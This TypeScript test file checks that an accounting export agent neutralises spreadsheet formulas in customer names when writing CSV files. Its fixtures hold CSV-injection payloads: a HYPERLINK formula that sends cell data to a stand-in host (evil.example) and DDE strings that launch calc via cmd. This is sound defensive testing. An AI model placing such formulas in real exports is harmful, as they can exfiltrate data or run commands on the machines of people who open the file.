// CSV injection: a customer, project or invoice line text from the PSA that starts like a spreadsheet formula is
// written so that Excel shows it as text, through a running agent (real HTTP on loopback) as a user exports it.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { startAgent, type RunningAgent } from "../agent/agent.ts";
import { validateConfig } from "../agent/config.ts";
import { silentLogger } from "../agent/log.ts";
import { parseTemplate } from "../formats/templates/definition.ts";
import { neutraliseFormula } from "../formats/templates/format.ts";
import { invoiceNumbersIn, writtenNumber } from "../formats/templates/read.ts";
import { renderTemplate } from "../formats/templates/render.ts";
import { customer, invoice } from "./exports-fixtures.ts";
import { tempDir } from "./helpers.ts";

const TOKEN = "formulas-token-0123456789";
const auth = { authorization: `Bearer ${TOKEN}`, "content-type": "application/json" };
let agent: RunningAgent;
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")';

beforeAll(async () => {
  const { config, targets } = validateConfig(
    { agent: { data_dir: tempDir("kontobro-formulas-") }, http: { port: 0, api_token: TOKEN }, exports: { company_name: "Formel AB" } },
    {},
  );
  agent = await startAgent(config, targets, silentLogger);
  const r = await fetch(`${agent.url}/api/v1/events`, {
    method: "POST",
    headers: auth,
    body: JSON.stringify([
      customer(100, HYPERLINK),
      customer(101, "@SUM(1+1)*cmd|' /C calc'!A0"),
      customer(102, "-2+3+cmd|' /C calc'!A0"),
      customer(103, "Vanlig Kund AB"),
      invoice(7001, { customerNumber: 100 }),
    ]),
  });
  expect(r.status).toBe(202);
});
afterAll(async () => {
  await agent.stop();
});

async function exportCsv(template: string): Promise<{ text: string; warnings: { code: string; message: string }[] }> {
  const run = await fetch(`${agent.url}/api/v1/exports/runs`, { method: "POST", headers: auth, body: JSON.stringify({ template }) });
  const body = (await run.json()) as any;
  expect(run.status).toBe(201);
  const dl = await fetch(`${agent.url}${body.files[0].download}`, { headers: auth });
  return { text: await dl.text(), warnings: body.warnings };
}

test("customer names that are formulas are written with a leading ' (customer-list), and the export says so", async () => {
  const { text, warnings } = await exportCsv("customer-list");
  const names = text
    .trim()
    .split("\r\n")
    .slice(1)
    .map((l) => l.split(";").slice(1, -7).join(";"));
  expect(names).toEqual([
    `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klick"")"`,
    `'@SUM(1+1)*cmd|' /C calc'!A0`,
    `'-2+3+cmd|' /C calc'!A0`,
    "Vanlig Kund AB",
  ]);
  expect(warnings.map((w) => w.code)).toEqual(["template.formula_neutralised"]);
  expect(warnings[0]!.message).toContain("3 value(s)");
});

test("an invoice template guards the customer name; amounts and numbers stay numbers", async () => {
  const { text } = await exportCsv("invoice-journal");
  const row = text.split("\r\n")[1]!;
  expect(row).toContain(`"'=HYPERLINK(`);
  expect(row).not.toContain(";'-");
});

test("plain numbers, phone numbers and negative amounts are not formulas; formulas = keep writes values as they are", () => {
  for (const v of ["-5", "+46 70 123 45 67", "-1 234,50", "(0)22-33", "Kund -1", ""]) expect(neutraliseFormula(v)).toBe(v);
  for (const v of ["=1+1", " =1+1", "@A1", "+A1", "-A1", "-2+3"]) expect(neutraliseFormula(v)).toBe(`'${v}`);
  const parsed = parseTemplate({
    name: "raw",
    dataType: "customers",
    formulas: "keep",
    columns: [
      { header: "Name", field: "name" },
      { header: "Const", value: "=1+1" },
    ],
  });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  const keep = renderTemplate(parsed.template, [{ name: HYPERLINK }]);
  expect(keep.text).toBe(`Name;Const\r\n"${HYPERLINK.replaceAll('"', '""')}";=1+1\r\n`);
  expect(keep.warnings).toEqual([]);
  const guarded = renderTemplate({ ...parsed.template, formulas: "neutralise" }, [{ name: HYPERLINK }]);
  expect(guarded.text.split("\r\n")[1]).toBe(`"'${HYPERLINK.replaceAll('"', '""')}";=1+1`); // the author's constant is the author's
});

test("a file read back finds an invoice whose number was guarded (files found after a restore)", () => {
  const parsed = parseTemplate({ name: "nums", dataType: "invoices", columns: [{ header: "No", field: "number" }] });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  const file = renderTemplate(parsed.template, [{ number: "-A7" }, { number: "7002" }]);
  const numbers = invoiceNumbersIn(parsed.template, file.bytes);
  expect(numbers.has(writtenNumber(parsed.template, "-A7"))).toBe(true);
  expect(numbers.has(writtenNumber(parsed.template, "7002"))).toBe(true);
});
